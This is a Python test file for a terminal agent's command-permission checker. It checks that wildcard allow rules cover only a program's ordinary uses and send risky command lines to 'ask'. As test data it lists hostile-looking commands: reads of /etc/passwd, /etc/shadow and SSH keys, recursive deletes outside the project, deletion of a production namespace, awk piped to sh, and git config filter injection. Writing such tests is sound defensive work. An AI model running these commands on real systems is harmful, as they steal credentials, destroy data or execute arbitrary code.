"""What a rule with a wildcard covers: what the program's table knows as within its purpose, and nothing else."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.permissions.support import judge
from tui_agent.permissions.guard import coverage
from tui_agent.permissions.guard.model import Word
from tui_agent.permissions.guard.usage import find_spec

DANGEROUS = ("--output=pwned", "--exec=./evil", "--config=./evil", "--plugin=./evil", "-o", "@/etc/passwd")
PATHS = ("/etc/passwd", "../outside", "~/.ssh/id_rsa")


def test_the_tables_know_at_least_400_programs() -> None:
    assert len(coverage.known_programs()) >= 400


def test_no_flag_of_any_program_hides_a_dangerous_flag_or_a_path_behind_it() -> None:
    """A flag that takes no next word swallows none; one that does takes no flag and no path outside."""
    wrong = []
    rows = json.loads((Path(coverage.__file__).parent / "programs.json").read_text("utf-8"))
    for name in sorted(coverage.known_programs())[::7]:
        purpose = coverage._purposes().get(name) or coverage._from_manual(name)
        assert purpose is not None
        flags = [flag for flag, kind in purpose.flags.items() if kind not in ("outside", "text")]
        for flag in flags[::3]:
            for behind in ("--output=pwned", "--exec=./evil", "/etc/passwd"):
                line = f"{name} {flag} {behind}"
                if name in ("true", "false") or (behind == "/etc/passwd" and find_spec((Word(name, name),))):
                    continue  # takes no notice of its words, or takes them as text; else path_scope looks at them
                if any(char in flag for char in "#?*[") or (
                    "--output" in purpose.flags and behind.startswith("--output")
                ):
                    continue
                if judge(line, allow=[f"Bash({name} *)"]).verdict == "allow":
                    wrong.append(line)
    assert rows
    assert not wrong


@pytest.mark.parametrize(
    ("rule", "line"),
    [
        ("Bash(make *)", "make CC=./evil"),
        ("Bash(git *)", "git -C . config core.fsmonitor ./evil"),
        ("Bash(git *)", "git clean -ffdx"),
        ("Bash(docker *)", "docker run -v/:/h x"),
        ("Bash(kubectl *)", "kubectl delete ns production"),
        ("Bash(kubectl get *)", "kubectl get secret/x"),
        ("Bash(npm *)", "npm --workspace x exec evil"),
        ("Bash(curl *)", "curl -sSLo x http://localhost/"),
        ("Bash(sqlite3 *)", "sqlite3 x.db .trace"),
        ("Bash(nobody-knows *)", "nobody-knows x"),
        ("Bash(pip install *)", "pip install git+https://x.example/y"),
        ("Bash(tee *)", "tee .cursor/mcp.json"),
        ("Bash(cp *)", "cp x conftest.py"),
        ("Bash(tar *)", "tar -xf dev@host:a.tar"),
        ("Bash(tar *)", "tar --file=10.0.0.1:a.tar -x"),
        ("Bash(tar *)", "tar -xf host:22"),
        ("Bash(tar *)", "tar xzf host:22"),
        ("Bash(rsync *)", "rsync -a host:22 build"),
        ("Bash(rsync *)", "rsync -a 10.0.0.1:x build"),
        ("Bash(git *)", "git push ./evil main"),
        ("Bash(git *)", "git fetch evil/repository"),
        ("Bash(git *)", "git pull ./evil"),
        ("Bash(git *)", "git switch -C main"),
        ("Bash(git branch *)", "git branch -C a b"),
        ("Bash(git *)", "git checkout ."),
        ("Bash(git *)", "git checkout -- src"),
        ("Bash(git *)", "git mv x conftest.py"),
        ("Bash(docker run *)", "docker run -v image"),
        ("Bash(kubectl *)", "kubectl get po/x secrets/y"),
        ("Bash(npm *)", "npm install dev/repository"),
        ("Bash(yarn add *)", "yarn add dev/repository"),
        ("Bash(npm *)", "npm i evil.tgz"),
        ("Bash(npm *)", "npm i evil.git"),
        ("Bash(pip install *)", "pip install evil.whl"),
        ("Bash(pip install *)", "pip install evil-1.zip[x]"),
        ("Bash(sed -i *)", "sed -i s/a/b/ Makefile"),
        ("Bash(sed -i *)", "sed -i -e s/a/b/ .git/config"),
        ("Bash(tar *)", "tar xzf a.tgz -C .git"),
        ("Bash(tar *)", "tar -xf a.tar conftest.py"),
        ("Bash(wget *)", "wget -N http://localhost/conftest.py#x"),
        ("Bash(wget *)", "wget http://localhost/%63onftest.py"),
        ("Bash(rm *)", "rm -rf ../project-that-is-not"),
        ("Bash(sed -i *)", "sed -i s/a/b/ /srv/x"),
        ("Bash(grep -f *)", "grep -f /srv/x a.txt"),
        ("Bash(awk -f *)", "awk -f /srv/x a.txt"),
        ("Bash(date -s *)", "date -s noon -r /srv/x"),
    ],
)
def test_what_no_table_knows_asks(rule: str, line: str) -> None:
    assert judge(line, allow=[rule]).verdict == "ask"


@pytest.mark.parametrize(
    ("rule", "line"),
    [
        ("Bash(git *)", "git commit -am 'x: y'"),
        ("Bash(git *)", "git push -u origin main"),
        ("Bash(pytest *)", "pytest -x -q tests/a.py -k 'a and b'"),
        ("Bash(npm run *)", "npm run lint -- --fix"),
        ("Bash(cargo *)", "cargo test --release -p core"),
        ("Bash(go test *)", "go test -race ./..."),
        ("Bash(make *)", "make -j4 test"),
        ("Bash(sed -i *)", "sed -i s/a/b/ f.txt"),
        ("Bash(docker run --privileged *)", "docker run --privileged x"),
        ("Bash(nobody-knows x *)", "nobody-knows x"),
        ("Bash(kubectl *)", "kubectl get pods -n web -o wide"),
        ("Bash(cp *)", "cp -r a b"),
        ("Bash(sed -i *)", "sed -i -e '/foo/d' -e s,/etc/x,/y, f.txt"),
        ("Bash(git *)", "git -C . checkout feature/x"),
        ("Bash(git *)", "git pull --rebase origin main"),
        ("Bash(rsync *)", "rsync -av src/ build/"),
        ("Bash(tar *)", "tar czf a.tgz src"),
        ("Bash(tar *)", "tar fx a.tar"),
        ("Bash(npm *)", "npm install @types/node@18 left-pad"),
        ("Bash(npm *)", "npm --silent test --if-present"),
        ("Bash(docker *)", "docker compose -p x logs -f web"),
        ("Bash(docker pull *)", "docker pull node:20"),
    ],
)
def test_what_a_program_is_for_and_what_the_rule_names_is_covered(rule: str, line: str) -> None:
    assert judge(line, allow=[rule]).verdict == "allow"


def test_checking_out_a_file_that_is_there_asks_as_it_loses_its_changes(tmp_path: Path) -> None:
    assert judge("git checkout topic", allow=["Bash(git *)"], cwd=str(tmp_path)).verdict == "allow"
    (tmp_path / "topic").write_text("changed\n")
    assert judge("git checkout topic", allow=["Bash(git *)"], cwd=str(tmp_path)).verdict == "ask"


@pytest.mark.parametrize(
    "line",
    [
        "git log --unified --output=x",
        "git diff --no-index -U /etc/shadow /dev/null",
        "journalctl -n --rotate",
        "ls | xargs -i touch cat",
        "ls | xargs --eof touch cat",
        "sed -l p 'e id' in.txt",
        """awk '{ x = $/"/; print "touch pwned" | "sh"; y = $/"/; }' in.txt""",
        """awk 'BEGIN { while (0) /"/; print "x" > "pwned"; if (1) /"/; }'""",
        "find . -exec grep + -used /etc/passwd -used \\;",
        "jq -n '$ ENV'",
        "gh pr list --json number --jq '$ENV'",
        "printf 'x%n' IFS; ls",
        "echo /etc/*",
        "git for-each-ref --format='%(signature)'",
        "while cd ..; do ls; done",
        "for d in a b; do cd ..; done; cat x",
        "hg status",
    ],
)
def test_what_a_reader_was_never_meant_for_asks(line: str) -> None:
    assert judge(line).verdict != "allow"


@pytest.mark.parametrize(
    "configuration",
    [
        b'\xef\xbb\xbf[filter "x"]\n\tclean = touch x\n',
        b'[filter "x"]\n\tfoo = a\\\n[user]\n\tclean = touch x\n',
        '[diff "x"]\n\tfoo = a\u2028[user]\n\ttextconv = touch x\n'.encode(),
        b'[diff "x"]\n\tfoo = a\x0c[user]\n\ttextconv = touch x\n',
    ],
)
def test_git_s_configuration_is_read_as_git_reads_it(tmp_path: Path, configuration: bytes) -> None:
    inner = tmp_path / ".git"
    for name in ("objects", "refs"):
        (inner / name).mkdir(parents=True)
    (inner / "HEAD").write_text("ref: refs/heads/main\n")
    (inner / "config").write_text("[core]\n\tbare = false\n")
    assert judge("git status", cwd=str(tmp_path)).verdict == "allow"
    (inner / "config").write_bytes(configuration)
    assert judge("git status", cwd=str(tmp_path)).verdict == "ask"


def test_an_index_that_git_cannot_read_asks(tmp_path: Path) -> None:
    inner = tmp_path / ".git"
    for name in ("objects", "refs"):
        (inner / name).mkdir(parents=True)
    (inner / "HEAD").write_text("ref: refs/heads/main\n")
    (inner / "config").write_text("[core]\n\tbare = false\n")
    (inner / "index").write_bytes(b"DIRC\0\0\xe0\0")
    assert judge("git status", cwd=str(tmp_path)).verdict == "ask"


def test_a_folder_that_cannot_be_searched_for_modules_asks(tmp_path: Path) -> None:
    line = "python3 -m json.tool"
    assert judge(line, cwd=str(tmp_path)).verdict == "allow"
    (tmp_path / "file").write_text("")
    assert judge(line, cwd=str(tmp_path / "file")).verdict == "ask"


@pytest.mark.parametrize("line", ["sed -i.bak s/a/b/ kept.txt", "sed --in-place=.bak s/a/b/ kept.txt"])
def test_a_rule_about_editing_holds_for_every_spelling_of_in_place(line: str) -> None:
    rule = f"Bash({line.rsplit(' ', 1)[0]} *)"
    assert judge(line, allow=[rule]).verdict == "allow"
    assert judge(line, allow=[rule], deny=["Edit(kept.txt)"]).verdict == "deny"


def test_a_folder_that_xargs_takes_apart_asks(tmp_path: Path) -> None:
    (tmp_path / "src").mkdir()
    line = "find . -name '*.py' | xargs cat"
    assert judge(line, cwd=str(tmp_path)).verdict == "allow"
    (tmp_path / "x " / "etc").mkdir(parents=True)
    assert judge(line, cwd=str(tmp_path)).verdict == "ask"
    assert judge("find . -name '*.py' -print0 | xargs -0 cat", cwd=str(tmp_path)).verdict == "allow"
